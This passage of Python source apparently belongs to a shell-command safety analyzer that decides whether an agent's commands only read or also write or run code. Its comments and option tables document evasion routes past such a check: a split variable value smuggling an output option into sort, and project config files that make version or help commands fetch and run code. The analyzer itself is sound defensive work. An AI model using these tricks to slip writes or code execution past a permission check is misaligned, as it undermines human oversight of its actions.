                if manifest_kind(t.split("=", 1)[-1][2 if t.startswith("-O") else 0:]) \
                        is not None:
                    return True
            if saves_remote and "://" in t:
                remote = t.split("?", 1)[0].split("#", 1)[0].rstrip("/").rsplit("/", 1)[-1]
                if manifest_kind(remote) is not None:
                    return True
        return False
    if name in _SCRIPTED_WRITERS and program_writes:
        return any(_manifest_token(t) for t in texts)
    return False


def _redir_verdict(op: str, target: Optional[_W]) -> _V:
    kind = op.lstrip("0123456789")
    if target is None or kind in ("<", "<<<"):
        return _an_read()
    if kind in ("<&", ">&"):
        if target.static and (target.text == "-" or target.text.isdigit()):
            return _an_read()
        if kind == "<&":
            raise _Give("shell_syntax_unproven")
    if target.static and target.text in _DEV_SINKS:
        return _an_read()
    return _write([target], "shell_redirection").blame("redir", op, target.text)


_UNICODE_DASHES = "\u2010\u2011\u2012\u2013\u2014\u2015\u2212\ufe58\ufe63\uff0d"


# Spellings that only print a version, per program ("--version" for every
# other one).  Elsewhere they mean something else: `make version` and
# `ninja version` build a target, `ninja -v`/`pytest -v` build or run the
# tests verbosely, `cmake version` configures the project in ./version,
# `java version` runs a class.
_VERSION_WORDS: Dict[str, Tuple[str, ...]] = {
    "rustc": ("-V",), "rustup": ("-V",), "gcc": ("-v", "-dumpversion"),
    "g++": ("-v", "-dumpversion"), "clang": ("-v",), "cc": ("-v", "-dumpversion"),
    "java": ("-version",), "javac": ("-version",), "kotlin": ("-version",),
    "scala": ("-version",), "tsc": ("-v",), "make": ("-v",),
    "gradle": ("-v",), "mvn": ("-v",), "helm": ("version",), "psql": ("-V",),
    "sqlite3": ("-version",), "ruff": ("-V", "version"), "mypy": ("-V",), "pytest": ("-V",),
    "eslint": ("-v",), "prettier": ("-v",), "jest": ("-v",), "vitest": ("-v",),
    "zig": ("version",), "ghc": ("-V",), "elixir": ("-v",), "mix": ("-v",), "lua": ("-v",),
    "julia": ("-v",), "nvm": ("version",), "pyenv": ("version",), "rbenv": ("version",),
}


# Programs that print their help for a lone `--help`, and their version for a
# lone `--version`, and exit without doing anything else.  Only the lone word
# counts: beside other arguments `POSIXLY_CORRECT` ends the options at the
# first operand (`rm x --help` removes x), and an option may take the next
# word as its value (`cp -t --help x`).  Left out: tools whose help loads the
# project's own code or config (pytest loads conftest.py, mvn and gradle read
# JVM options from the project, cargo, rustc and rustup run the toolchain a
# rust-toolchain.toml may point into the project; see _PROJECT_PICKS) and
# those whose help runs a pager (aws).  `unlink` is left out: the BSD one
# (macOS) parses no option and removes the file its one argument names,
# `--help` included.
_HELP_PROGRAMS = frozenset((
    "rm", "rmdir", "shred", "touch", "mkdir", "truncate", "chmod", "chown", "chgrp",
    "ln", "cp", "mv", "install", "dd", "mktemp", "split", "csplit", "mkfifo", "mknod", "sync",
    "patch", "rsync", "gzip", "gunzip", "bzip2", "bunzip2", "xz", "unxz", "zstd", "wget",
    "pkill", "killall", "setfacl", "tee", "tar", "sed", "find", "grep", "sort", "uniq", "curl",
    "xargs", "env", "nice", "timeout", "nohup", "stdbuf", "sudo", "bash", "zsh",
    "python", "python3", "node", "ruby", "deno", "make", "cmake",
    "pip", "pip3", "uv", "docker", "kubectl", "helm", "terraform", "gh", "systemctl",
    "journalctl", "apt", "apt-get", "ssh", "scp", "sftp", "date", "hostname", "tree", "file",
    "npm", "go",
))
# Programs whose -h is no option at all: they print their usage and stop.
_HELP_SHORT = frozenset(("scp", "sftp", "ssh"))
# Programs whose version forms do more than print: terraform asks HashiCorp's
# server for news and writes ~/.terraform.d/checkpoint_signature (seen by the
# fuzzer in its sandbox).
_VERSION_CALLS_OUT = frozenset(("terraform",))


def _help_only(name: str, args: List[_W]) -> bool:
    """`prog --help`, `prog --version` (and `scp -h`) alone, for a program of _HELP_PROGRAMS."""
    if len(args) != 1 or name not in _HELP_PROGRAMS or not args[0].static:
        return False
    word = args[0].text
    if word == "--version":
        return name not in _VERSION_CALLS_OUT
    return word == "--help" or (word == "-h" and name in _HELP_SHORT)


def _version_only(name: str, args: List[_W], ctx: _Ctx) -> _V:
    if len(args) == 1 and args[0].static and (
            args[0].text == "--version" or args[0].text in _VERSION_WORDS.get(name, ())):
        return _an_read()
    return _unknown()


# Programs also installed under a versioned name (python3.12, pip3.11,
# ruby3.2, shasum5.36): the version is not part of what they do.
_VERSIONED = ("python", "pip", "pypy", "ruby", "gem", "bundle", "node", "php", "perl", "lua",
              "luajit", "shasum", "julia", "pydoc", "idle", "easy_install", "gcc", "g++")


def _program_alias(word: _W) -> Optional[str]:
    """A program known under another spelling: /opt/x/bin/sha256sum, npm.cmd,
    certutil.exe, pip3.12.  Its verdict is then never a proven read."""
    if not word.static or not word.text:
        return None
    base = word.text.replace("\\", "/").rsplit("/", 1)[-1].lower()
    for suffix in (".exe", ".cmd", ".bat", ".com", ".ps1"):
        if base.endswith(suffix) and base[:-len(suffix)] in _PROGRAMS:
            return base[:-len(suffix)]
    for family in _VERSIONED:
        rest = base[len(family):]
        if base.startswith(family) and rest and all(ch.isdigit() or ch in ".-" for ch in rest) \
                and rest[-1].isdigit():
            return family if family in _PROGRAMS else None
    if base != word.text.lower() and (base in _PROGRAMS or base in _WRITERS):
        return base
    return None


# Programs that, before they do anything else, obey a file of the project
# that picks, fetches or runs another build of themselves, or loads the
# project's own code, so that not even their version and help forms only
# read.  name -> what a denial says.  (A program chosen through a version
# manager the user installed, mise or volta, is configuration like PATH.)
_PROJECT_PICKS: Dict[str, str] = {
    # rustup's proxies: `path = "/some/dir"` in rust-toolchain.toml runs
    # /some/dir/bin/cargo (seen), a channel there may be installed first.
    "cargo": "runs the build of Rust that the project's rust-toolchain.toml names",
    "rustc": "runs the build of Rust that the project's rust-toolchain.toml names",
    "rustup": "runs the build of Rust that the project's rust-toolchain.toml names",
    # Go 1.21+: a newer `go` or `toolchain` line in go.mod or go.work makes
    # every go command, `go version` too, fetch and run that release.
    "go": "fetches and runs the Go release that the project's go.mod asks for",
    # .yarnrc `yarn-path` / .yarnrc.yml `yarnPath` name a script yarn runs
    # instead of itself (seen); corepack fetches `packageManager`.
    "yarn": "runs the script that the project's .yarnrc names in its place",
    # pnpm 9.7+ installs and runs the pnpm that package.json's
    # `packageManager` names (seen: it writes ~/.local/share/pnpm/.tools).
    "pnpm": "installs and runs the pnpm that the project's package.json names",
    # .mvn/jvm.config holds JVM options (seen: -Xlog:...:file=F writes F;
    # -javaagent: runs code).
    "mvn": "starts Java with the options in the project's .mvn/jvm.config",
    # pytest 8 loads conftest.py and plugins before it prints its version;
    # pytest 9.0 runs the whole session for -V (both seen).
    "pytest": "loads the project's conftest.py and plugins first",
    # The sbt launcher reads .jvmopts/.sbtopts and fetches the sbt of
    # project/build.properties; bazelisk fetches the bazel of .bazelversion
    # (from .bazeliskrc's BAZELISK_BASE_URL, if set).
    "sbt": "starts Java with the project's .jvmopts and fetches the sbt it names",
    "bazel": "fetches and runs the bazel that the project's .bazelversion names",
}


# The variable that keeps such a program on the build it is: name -> (program,
# value).  `GOTOOLCHAIN=local go list` runs the go at hand, whatever go.mod says.
_PICKS_PINNED_BY: Dict[str, Tuple[str, str]] = {"GOTOOLCHAIN": ("go", "local")}


def _pinned(name: str, assigns: List[Tuple[str, _W]]) -> bool:
    """Whether a prefix assignment pins program `name` to itself."""
    return any(_PICKS_PINNED_BY.get(var, ("", ""))[0] == name and value.static
               and value.text == _PICKS_PINNED_BY[var][1] for var, value in assigns)


# Commands that run inside the shell itself, so that a folder change they
# make (cd, pushd, a sourced file...) stays for the commands after them.
# Any other program runs in a process of its own: `env cd x`, `xargs cd`
# and `bash -c 'cd x'` leave the shell where it was.
_SHELL_HERE = frozenset(("cd", "chdir", "pushd", "popd", "dirs", "source", ".", "eval", "trap",
                         "emulate", "fc", "r", "command", "builtin", "exec", "time", "noglob",
                         "nocorrect", "-"))


def _classify_argv(words: List[_W], ctx: _Ctx) -> _V:
    v = _classify_program(words, ctx)
    if v.mut != "write" and words and (v.mut == "read" or v.reason == "repository_code"):
        name = _program_name(words[0])
        if name in _PROJECT_PICKS:
            v.cap("repository_code")
            v.why = v.why or ("project", name)     # the culprit says which file picks it
    if v.mut != "read" and v.agent is None:
        # A proven read starts nothing, so only the rest is looked at.  The
        # operands of a launcher are searched once, at the top: the wrappers
        # the analyzer sees through come back here with their payload.
        found = _agent_started(words, ctx.depth == 0)
        if found is not None:
            v.agent, v.resume = found
    return v


def _classify_program(words: List[_W], ctx: _Ctx) -> _V:
    if not words:
        return _an_read()
    name = _program_name(words[0])
    alias = _program_alias(words[0]) if name is None or (
        name not in _PROGRAMS and name not in _WRITERS) else None
    if alias is not None:
        inner = _classify_argv([_lit(alias)] + words[1:], ctx.deeper())
        return inner.cap("shell_command_unproven")
    if name is None:
        base = words[0].text.rpartition("/")[2].lower() if words[0].static else ""
        if base in ("rm", "rmdir", "mv", "cp") and "/" in words[0].text:
            # ./rm, /opt/gnu/bin/cp
            return _writer_verdict(base, words[1:]).blame("writer", words[0].text)
        if words[0].static:
            return _unknown("shell_command_unproven", "path", words[0].text)
        # `$c x` may run any builtin, cd among them.
        return _runs_here(_unknown("shell_syntax_unproven", "dynamic"))
    if name == "r" and words[0].text == "r":
        # zsh's `r` repeats the last command (fc -e -); R's interpreter is `R`.
        return _runs_here(_unknown("shell_command_unproven", "zsh", "r", "rerun"))
    handler = _PROGRAMS.get(name)
    args = words[1:]
    if len(args) == 1 and _help_only(name, args):
        return _an_read()
    for w in args:
        if w.text and w.text[0] in _UNICODE_DASHES:
            # looks like an option to a reader, is not one to the program
            return _unknown("shell_command_unproven", "dash", w.text)
    modes = _READ_MODES.get(name)
    if modes is not None and _reads_in_mode(args, *modes):
        return _an_read()
    if handler is None:
        if name in _WRITERS:
            return _writer_verdict(name, args).blame("writer", name)
        return _unknown("shell_command_unproven", "unlisted", name)
    v = handler(name, args, ctx)
    if v.mut != "read" and name in _WRITE_OPTION_PROGRAMS and any(_may_be_option(w, ctx)
                                                                   for w in args):
        # A variable that may turn into an option (`sort $X`, `find "$D"`)
        # may turn into one that writes (-o FILE, -delete): to where, nobody
        # knows.  (A glob may too, through a file named like an option; that
        # is left out: see the README.)
        v.opaque = True
    if v.cd is not None and name not in _SHELL_HERE:
        v.cd = None
    return v


def _may_be_option(w: _W, ctx: _Ctx) -> bool:
    """Whether a variable or substitution in `w` may turn it into an option
    (its values are unknown, split, or begin with '-')."""
    if not (w.opaque and w.dyn):
        return False
    values = _word_paths(w, ctx)
    return values is None or any(v.startswith("-") for v, _ in values)


# Programs the analyzer proves read unless an option makes them write a
# file (sort -o, git --output, find -delete, sed w, curl -o, tar -x...).
_WRITE_OPTION_PROGRAMS = frozenset((
    "sort", "uniq", "tree", "xxd", "file", "git", "find", "curl", "sed", "gsed", "tar",
    "unzip", "awk", "gawk", "mawk", "nawk", "tee",
))


# ---- option tables -----------------------------------------------------------
#
# Most programs are judged by a table of their options (`_Opts`), read by
# one scanner (`_read_options`).  A table is one string, written the way --help
# lists the options:
#
#     -abc          short flags a, b and c, alone or in a cluster (-ab)
#     -kt:          short options that take a value: attached (-k2) or the next word
#     -I?           a short option whose value is optional and only attached (-Ins)
#     --name        a long flag
#     --name:       a long option that takes a value: --name=V or --name V
#     --name?       a long option whose value is optional, only as --name=V
#     --size=-s     another spelling of -s: it takes what -s takes and counts as -s
#
# Options the table does not list leave the command unproven (unless the
# table is `open`: then they are plain flags).  GNU programs take any unique
# prefix of a long option (--out for --output), and so does the scanner
# unless `abbrev=False`.  Options may follow operands unless `permute=False`
# (then the first operand ends them, as for xxd and every wrapper).
#
# What an option does besides shaping the output is its effect, named by
# keyword: `write` (writes the file its value names, or some file when it
# takes none), `runs` (runs another program or loads code) and `state`
# (changes the system or the shell).  An effect met before a word the
# scanner cannot read still counts: `sort -o f --new-flag` names f.  A
# value given as the next word that may split into several words (an
# unquoted expansion, a pattern, a brace list) leaves the command unproven,
# and whatever it writes may land anywhere (see _may_split).
#
# Programs judged by a table here: sort, uniq, tree, xxd, file, zipinfo,
# getent, apt-cache, systemctl, journalctl, hostnamectl, timedatectl,
# dmesg, sysctl, fuser, iconv, stty, mount, lsb_release, crontab, ss,
# netstat, ifconfig, yq, ulimit, umask, history, shopt, declare, nm, diff3,
# date, rg, fd, the wrappers time, nice, timeout, stdbuf, nohup, xargs and
# sudo, sed's own options and the modes of the compressors and kill.
# Programs that keep code of their own, and why: git, find, awk, tar, unzip,
# patch and curl have a grammar beyond options (subcommands, expressions,
# a program text, mode letters, old-style clusters) or read the values
# themselves (curl's -w and -H, tar's --use-compress-program); env mixes
# NAME=VALUE words with its options; the shell built-ins (cd, read, set,
# test, printf, ...) decide by what they assign, not by their options;
# the package managers, docker, kubectl, gh and ip decide by verb.
#
# A table is parsed the first time its program is judged: a table never
# used costs nothing.  Each row may carry examples in the corpus format
# (`#: LABEL [TAGS] | COMMAND`, see tests/analysis_corpus.txt) on the
# comment lines above it; tests/test_analysis.py checks every one.

_EFFECT_REASONS = {"write": None, "runs": "shell_execution_option", "state": "state_change"}


def _may_split(w: _W) -> bool:
    """An option's value given as the next word must stay one word: an
    unquoted expansion or a pattern may become several (`sort -k $x f` with
    x='1 -o out' writes out; `sort -k {1,-o/tmp/x} f` too), and every
    word after the first is read as an option or an operand."""
    return w.glob or (w.dyn and w.split)


def _unsplit(v: _V, value: Optional[_W]) -> _V:
    """The verdict of a command whose option `value` may split into more
    words (None: none does): never a read, and its writes may land anywhere."""
    if value is not None and _may_split(value):
        v.cap("shell_syntax_unproven", ("opaque", value.text))
        if v.mut == "write":
            v.opaque = True
    return v


class _Opts:
    """One program's option table (grammar above) and what its operands may be.

    needs: one of these options must be given (`top -b`: without it top
    takes keystrokes that kill processes); verbs: what the first operand
    may be ("" for none), every other verb is unproven; max_operands: more
    operands leave it unproven; write_operand: the operand at that index
    is written (`uniq in out`); check: a last look at the operands (a
    verdict refuses them).
    """

    __slots__ = ("text", "write", "runs", "state", "permute", "abbrev", "open", "needs",
                 "verbs", "max_operands", "write_operand", "check", "_short", "_long",
                 "_effects")

    def __init__(self, text: str = "", write: str = "", runs: str = "", state: str = "",
                 permute: bool = True, abbrev: bool = True, open: bool = False,
                 needs: str = "", verbs: Optional[frozenset] = None,
                 max_operands: Optional[int] = None, write_operand: Optional[int] = None,
                 check: Optional[Callable[[List[_W]], Optional[_V]]] = None) -> None:
        self.text = text
        self.write, self.runs, self.state = write, runs, state
        self.permute, self.abbrev, self.open = permute, abbrev, open
        self.needs, self.verbs, self.check = needs, verbs, check
        self.max_operands, self.write_operand = max_operands, write_operand
        self._short: Optional[Dict[str, Tuple[int, str]]] = None
        self._long: Dict[str, Tuple[int, str]] = {}
        self._effects: Dict[str, str] = {}

    def table(self) -> Tuple[Dict[str, Tuple[int, str]], Dict[str, Tuple[int, str]]]:
        """(short letter -> (arity, name), long name -> (arity, name)); arity
        0 is a flag, 1 takes a value, 2 takes an optional attached one."""
        if self._short is None:
            short: Dict[str, Tuple[int, str]] = {}
            long: Dict[str, Tuple[int, str]] = {}
            for entry in self.text.split():
                head, _, alias = entry.partition("=") if entry.startswith("--") \
                    else (entry, "", "")
                arity = 1 if head[-1] == ":" else 2 if head[-1] == "?" else 0
                body = head.rstrip(":?")
                if alias:
                    long[body[2:]] = self._entry(alias, short, long)
                elif body.startswith("--"):
                    long[body[2:]] = (arity, body[2:])
                else:
                    for ch in body[1:]:
                        short[ch] = (arity, ch)
            self._long = long
            for effect in ("write", "runs", "state"):
                for option in getattr(self, effect).split():
                    self._effects[self._entry(option, short, long)[1]] = effect
            self._short = short
        return self._short, self._long

    @staticmethod
    def _entry(option: str, short: Dict[str, Tuple[int, str]],
               long: Dict[str, Tuple[int, str]]) -> Tuple[int, str]:
        return long[option[2:]] if option.startswith("--") else short[option[1:]]

    def effect(self, name: str) -> Optional[str]:
        return self._effects.get(name)

    def __call__(self, name: str, args: List[_W], ctx: _Ctx) -> _V:
        fail, operands, seen = _read_options(args, self, split_ok=True)
        return _unsplit(self._judge(args, fail, operands, seen), _split_value(seen))

    def _judge(self, args: List[_W], fail: Optional[_V], operands: List[_W],
               seen: List[Tuple[str, Optional[_W], str]]) -> _V:
        if fail is not None:
            return fail
        if self.needs:
            short, long = self.table()
            wanted = {self._entry(option, short, long)[1] for option in self.needs.split()}
            if not any(opt in wanted for opt, _, _ in seen):
                return _unknown()
        if self.verbs is not None:
            first = operands[0] if operands else None
            if (first.text if first is not None and first.static else None) not in self.verbs \
                    and not (first is None and "" in self.verbs):
                return _unknown()
        if self.check is not None:
            refused = self.check(operands)
            if refused is not None:
                return refused
        if (self.write_operand is not None or self.max_operands is not None) \
                and any(w.glob for w in operands):
            # `uniq a{,.out}` or `uniq a*` may become two operands: the second is written.
            return _unknown("shell_syntax_unproven")
        if self.write_operand is not None:
            # With POSIXLY_CORRECT an option after the input is the output.
            strict = _posix_operands(args, self)
            operands = strict if len(strict) > len(operands) else operands
        if self.write_operand is not None and len(operands) > self.write_operand:
            w = operands[self.write_operand]
            if not (w.static and (w.text == "-" or w.text in _DEV_SINKS)):
                return _write([w])
        if self.max_operands is not None and len(operands) > self.max_operands:
            return _unknown()
        return _an_read()


def _resolve_long(long: Dict[str, Tuple[int, str]], key: str, abbrev: bool) -> Optional[str]:
    if key in long:
        return key
    if not abbrev:
        return None
    hits = [k for k in long if k.startswith(key)]
    return hits[0] if len(hits) == 1 else None


def _read_options(args: List[_W], spec: _Opts, permute: Optional[bool] = None,
                  split_ok: bool = False
                  ) -> Tuple[Optional[_V], List[_W], List[Tuple[str, Optional[_W], str]]]:
    """The one option scanner.

    Returns (verdict or None, operands, [(option name, value, word as
    written)]).  The verdict joins the effects of the options met (in order)
    and, when a word cannot be read, that failure: an opaque word in option
    position (it could turn into any option), an option the table does not
    list, a value missing, and a value given as the next word that may
    split into several (see _may_split; split_ok: the caller judges it, as
    the wrappers do).  Operands are every word that is no option.
    """
    short, long = spec.table()
    permute = spec.permute if permute is None else permute
    operands: List[_W] = []
    seen: List[Tuple[str, Optional[_W], str]] = []
    effects: Optional[_V] = None
    i, n = 0, len(args)
    dd = False
    fail: Optional[_V] = None
    while i < n and fail is None:
        w = args[i]
        i += 1
        if dd:
            operands.append(w)
            continue
        if w.opaque:
            fail = _unknown("shell_syntax_unproven", "opaque", w.text)
            break
        t = w.text
        if t == "--":
            dd = True
            continue
        if t == "-" or not t.startswith("-"):
            operands.append(w)
            dd = not permute
            continue
        start = len(seen)
        if t.startswith("--"):
            key, eq, val = t[2:].partition("=")
            canon = _resolve_long(long, key, spec.abbrev)
            if canon is None:
                if not spec.open:
                    fail = _unknown("shell_command_unproven", "option", t)
                continue
            arity, opt = long[canon]
            value: Optional[_W] = None
            if eq:
                if arity == 0:
                    fail = _unknown("shell_command_unproven", "option", t)
                    break
                value = _lit(val)
            elif arity == 1:
                if i >= n:
                    fail = _unknown("option_value_missing", "option", t)
                    break
                value = args[i]
                i += 1
            seen.append((opt, value, t))
        else:
            j = 1
            while j < len(t):
                entry = short.get(t[j])
                if entry is None:
                    if not spec.open:
                        fail = _unknown("shell_command_unproven", "option", t)
                        break
                    j += 1
                    continue
                arity, opt = entry
                if arity:
                    rest = t[j + 1:]
                    if rest:
                        seen.append((opt, _lit(rest), t))
                    elif arity == 2:
                        seen.append((opt, None, t))
                    elif i < n:
                        seen.append((opt, args[i], t))
                        i += 1
                    else:
                        fail = _unknown("option_value_missing", "option", t)
                    break
                seen.append((opt, None, t))
                j += 1
        for opt, value, spelled in seen[start:]:
            effect = spec.effect(opt)
            if effect is not None:
                v = _write([value] if value is not None else []) if effect == "write" \
                    else _unknown(_EFFECT_REASONS[effect])
                v.why = ("spec", spelled, value.text if value is not None else None, effect)
                effects = v if effects is None else effects.join(v)
    split = _split_value(seen)
    if split is not None and not split_ok:
        # The words after it may be other options than they seem: never a
        # read, and a write it makes may land anywhere.
        if effects is not None and effects.mut == "write":
            effects.opaque = True
        fail = _unknown("shell_syntax_unproven", "opaque", split.text)
    if effects is not None:
        return (effects if fail is None else effects.join(fail)), operands, seen
    return fail, operands, seen


def _posix_operands(args: List[_W], spec: _Opts) -> List[_W]:
    """The operands when options end at the first operand, as every GNU
    getopt program reads them once POSIXLY_CORRECT is set (in the user's
    environment or before the command): `uniq a.txt -c` then writes to a
    file named -c.  Only the count and order matter to the callers."""
    return _read_options(args, spec, permute=False)[1]


def _inert(name: str, args: List[_W], ctx: _Ctx) -> _V:
    """No argument of these programs can write or run anything."""
    return _V(hash_=name in _HASH_PROGRAMS)


def _stat(name: str, args: List[_W], ctx: _Ctx) -> _V:
    """GNU stat only prints; zsh's stat builtin (zmodload zsh/stat) assigns
    an array with -A NAME or a hash with -H NAME, options GNU stat lacks."""
    for w in args:
        if w.text == "--":
            break
        if w.static and w.text.startswith("-") and not w.text.startswith("--") \
                and ("A" in w.text or "H" in w.text):
            return _unknown("state_change")
    return _an_read()


# ---- writers ----------------------------------------------------------------

_WRITERS = frozenset((
    "rm", "rmdir", "unlink", "shred", "touch", "mkdir", "truncate", "chmod", "chown", "chgrp",
    "ln", "cp", "mv", "install", "dd", "mktemp", "split", "csplit", "patch", "rsync", "scp",
    "zip", "unzip", "gzip", "gunzip", "bzip2", "bunzip2", "xz", "unxz", "zstd", "7z",
    "wget", "apply_patch", "mkfifo", "mknod", "setfacl", "chattr", "git-lfs", "del", "erase",
    "rename", "chflags", "sync", "kill", "pkill", "killall", "reboot", "shutdown",
    # cmd.exe built-ins and Windows tools reached through the "unknown" shell
    "copy", "move", "ren", "md", "rd", "mklink", "xcopy", "robocopy", "attrib", "icacls",
))

_VALUED_WRITER_OPTS = {
    "cp": "tS", "mv": "tS", "ln": "tS", "install": "tSmogS", "touch": "dtr", "mkdir": "m",
    "truncate": "sr", "chmod": "", "chown": "", "chgrp": "", "rm": "", "rmdir": "",
    "unlink": "", "shred": "ns", "mkfifo": "mZ", "mknod": "mZ", "rsync": "efT", "scp": "cFiJloPS",
    "gzip": "S", "gunzip": "S", "bzip2": "", "bunzip2": "", "xz": "TS", "unxz": "TS",
    "zstd": "oDT", "rename": "", "del": "", "erase": "", "rd": "", "md": "",
    "copy": "", "move": "",
}
# Long options of those writers that take a value as the next word.
_VALUED_WRITER_LONG = frozenset((
    "--target-directory", "--reference", "--suffix", "--mode", "--owner", "--group",
    "--date", "--size", "--iterations", "--rsh", "--filter", "--exclude", "--include",
    "--exclude-from", "--include-from", "--files-from", "--temp-dir", "--compare-dest",
    "--copy-dest", "--link-dest", "--partial-dir", "--log-file", "--backup-dir", "--chmod",
    "--chown", "--usermap", "--groupmap", "--rsync-path", "--password-file", "--timeout",
    "--bwlimit", "--max-size", "--min-size", "--modify-window", "--out-format", "--context",
))
# How a writer treats its operands: "tree" removes them or changes
# everything below them; "copy" writes its last operand from the others
# (mv also removes the others, ln links to them); "path" writes each one.
_WRITER_SHAPE = {
    "rm": "tree", "rmdir": "tree", "unlink": "tree", "shred": "tree", "chmod": "tree",
    "chown": "tree", "chgrp": "tree", "rename": "tree", "del": "tree", "erase": "tree",
    "rd": "tree", "cp": "copy", "mv": "copy", "ln": "copy", "install": "copy",
    "rsync": "copy", "scp": "copy", "copy": "copy", "move": "copy",
}
_COMPRESSORS = frozenset(("gzip", "gunzip", "bzip2", "bunzip2", "xz", "unxz", "zstd"))


def _w_join(word: _W, suffix: str, pattern: bool = False) -> _W:
    """`word/suffix` as one word; pattern: the suffix holds wildcards."""
    text = word.text.rstrip("/") + "/" + suffix if word.text.rstrip("/") else "/" + suffix
    return _W(text, dyn=word.dyn, split=word.split, glob=word.glob or pattern,
              lead=word.lead, quoted=word.quoted, exp=word.exp)


def _w_tail(word: _W, skip: int) -> _W:
    """The word without its first `skip` characters (a static `of=`, `--x=`)."""
    if "\0" in word.text[:skip]:
        return _W("\0", dyn=True, split=True, lead=False)   # unknown
    text = word.text[skip:]
    return _W(text, dyn=word.dyn, split=word.split, glob=word.glob,
              lead=not text.startswith("-"), quoted=word.quoted, exp=word.exp)


def _w_base(word: _W) -> Optional[str]:
    """The last component of a static path ("" for `x/.`, `..`, `/`); None if dynamic."""
    if not word.static:
        return None
    base = word.text.rstrip("/").rpartition("/")[2]
    return "" if base in (".", "..") else base


def _remote(word: _W) -> bool:
    """`host:path` (scp, rsync): not a local path."""
    head = word.text.split("/", 1)[0]
    return ":" in head and not (len(head) == 2 and head[0].isalpha())


def _writer_verdict(name: str, args: List[_W]) -> _V:
    """What a writer provably changes (see _WRITER_SHAPE); the verdict is a
    write whatever shape the arguments have."""
    v = _write()
    if name == "dd":
        for w in args:
            if w.text.startswith("of="):
                v.add(_w_tail(w, 3))
        return v
    valued = _VALUED_WRITER_OPTS.get(name)
    if valued is None:
        return v
    operands: List[_W] = []
    target_dir: Optional[_W] = None
    flags = ""
    deletes = False
    i, dd = 0, False
    while i < len(args):
        w = args[i]
        i += 1
        t = w.text
        if not dd and t == "--" and w.static:
            dd = True
            continue
        if not dd and t.startswith("-") and t != "-" and w.static:
            if t.startswith("--"):
                key = t.split("=", 1)[0]
                if key == "--target-directory":
                    if "=" in t:
                        target_dir = _w_tail(w, len(key) + 1)
                    elif i < len(args):
                        target_dir = args[i]
                elif key in ("--recursive", "--archive"):
                    flags += "r"
                elif key in ("--link", "--symbolic-link"):
                    flags += "l"
                elif key.startswith("--delete"):
                    deletes = True
                elif key == "--remove-source-files":
                    flags += "M"
                if key in _VALUED_WRITER_LONG and "=" not in t:
                    i += 1
                continue
            letters = t[1:]
            for k, ch in enumerate(letters):
                if ch in valued:
                    if ch == "t":
                        target_dir = _w_tail(w, k + 2) if k + 1 < len(letters) else \
                            (args[i] if i < len(args) else None)
                    if k == len(letters) - 1:
                        i += 1
                    break
                flags += ch
            continue
        operands.append(w)
    if name in ("chmod", "chown", "chgrp") and operands and not any(
            w.text.startswith("--reference") for w in args):
        operands = operands[1:]
    if name == "mknod":
        operands = operands[:1]
    if name in ("copy", "move", "del", "erase", "rd", "md"):
        # cmd.exe switches are /x words.
        operands = [w for w in operands if not w.text.startswith("/")]
    if name in _COMPRESSORS:
        if any(ch in flags for ch in "ct") or any(w.text in ("--stdout", "--test", "--list")
                                                 for w in args):
            return v   # to standard output, or a check
        unpacks = name in ("gunzip", "bunzip2", "unxz") or "d" in flags \
            or any(w.text in ("--decompress", "--uncompress") for w in args)
        for w in operands:
            v.add(w, tree="r" in flags)
            base = _w_base(w)
            if unpacks and base and "." in base:
                v.add(w.text.rsplit(".", 1)[0])   # what unpacking writes
        return v
    shape = _WRITER_SHAPE.get(name, "path")
    if shape == "tree":
        for w in operands:
            v.add(w, tree=True)
        return v
    if shape == "path" or name == "install" and "d" in flags:
        for w in operands:
            v.add(w)
        return v
    # copy: the last operand (or -t DIR) receives the others.
    if target_dir is not None:
        dest, sources = target_dir, operands
    elif len(operands) >= 2:
        dest, sources = operands[-1], operands[:-1]
    else:
        if name == "ln" and operands:
            # `ln -s SRC` links SRC into the working folder.
            dest, sources = _lit("."), operands
        else:
            return v
    if name in ("rsync", "scp") and _remote(dest):
        dest = None
    recursive = bool(set(flags) & set("rRa")) or name == "rsync"
    links = name == "ln" or (name == "cp" and bool(set(flags) & set("ls")))
    if dest is not None:
        v.add(dest, tree=deletes)
        # Unless -T says dest is the new name itself, it may be a folder
        # that receives each source under its own name.
        for src in sources:
            if ("T" in flags and target_dir is None) or (name in ("rsync", "scp")
                                                         and _remote(src)):
                continue
            base = _w_base(src)
            if base is None or base == "" or (name == "rsync" and src.text.endswith("/")):
                # Unknown names, or the folder's contents land in dest itself.
                v.add(_w_join(dest, "*", pattern=True), tree=recursive)
            else:
                v.add(_w_join(dest, _glob_escape(base), pattern="[" in _glob_escape(base)),
                      tree=recursive)
    for src in sources:
        if name in ("rsync", "scp") and _remote(src):
            continue
        if name == "mv" or (name == "rsync" and "M" in flags):
            v.add(src, tree=True)          # moved away: gone from where it was
        elif links:
            # A link to a guard file would let a later write through the link
            # change it, so the link's target counts as written.  A relative
            # symbolic link is read from the link's own folder: dest, or the
            # folder holding dest.
            v.add(src, tree=True)
            if "s" in flags and dest is not None and src.static \
                    and not src.text.startswith(("/", "~")):
                rel = _glob_escape(src.text)
                v.add(_w_join(dest, rel, pattern=rel != src.text), tree=True)
                parent = dest.text.rstrip("/").rpartition("/")[0] if dest.static else None
                if parent is not None:
                    v.add((parent + "/" if parent else "") + src.text, tree=True)
    return v


# ---- wrappers ---------------------------------------------------------------

def _payload(args: List[_W], ctx: _Ctx) -> _V:
    inner = ctx.deeper()
    # The same shell expands the wrapped command's words: its variables hold.
    inner.vars, inner.vars_unknown = ctx.vars, ctx.vars_unknown
    inner.globs_unknown = ctx.globs_unknown
    return _classify_argv(args, inner)


def _split_value(seen: List[Tuple[str, Optional[_W], str]]) -> Optional[_W]:
    """The first value given as a word of its own that may split (_may_split)."""
    return next((value for _, value, _ in seen if value is not None and _may_split(value)),
                None)


def _wrapper_start(args: List[_W], spec: _Opts
                   ) -> Optional[Tuple[int, List[Tuple[str, Optional[_W], str]]]]:
    """Where the command a wrapper runs starts, after the wrapper's own
    options (its table, read with options ending at the first operand), and
    the options met; None when unsure: a word the table cannot read, or a
    command word that is not static."""
    fail, operands, seen = _read_options(args, spec, split_ok=True)
    if fail is not None:
        return None
    start = len(args) - len(operands)
    if operands and not operands[0].static and not (
            start and args[start - 1].static and args[start - 1].text == "--"):
        return None
    return start, seen


def _w_transparent(spec: _Opts, numeric_first: bool = False,
                   capped: Optional[str] = None) -> Callable[[str, List[_W], _Ctx], _V]:
    def handler(name: str, args: List[_W], ctx: _Ctx) -> _V:
        if name in ("nice",) and args and args[0].static and args[0].text[1:].isdigit() \
                and args[0].text.startswith("-"):
            args = args[1:]
        found = _wrapper_start(args, spec)
        if found is None:
            return _unknown()
